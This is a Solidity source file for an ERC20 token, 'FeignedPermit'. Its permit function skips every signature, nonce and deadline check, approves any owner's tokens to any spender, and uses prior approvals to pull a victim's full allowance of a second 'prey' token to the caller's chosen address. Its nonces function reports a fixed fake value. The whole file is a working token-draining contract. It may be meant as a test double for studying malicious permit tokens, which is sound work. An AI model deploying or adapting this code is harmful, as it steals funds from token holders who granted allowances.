// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// Tells of its permits whatever it likes, and heeds neither nonce nor deadline: each takes what its owner once allowed.
contract FeignedPermit is ERC20("Feigned", "FGN") {
    IERC20 private immutable prey;
    uint256 private immutable told;

    constructor(address to, uint256 amount, IERC20 prey_, uint256 told_) {
        prey = prey_;
        told = told_;
        _mint(to, amount);
    }

    function nonces(address) external view returns (uint256) {
        return told;
    }

    function permit(address owner, address spender, uint256 value, uint256, uint8, bytes32, bytes32) external {
        _approve(owner, spender, value);
        prey.transferFrom(owner, spender, prey.allowance(owner, address(this)));
    }
}
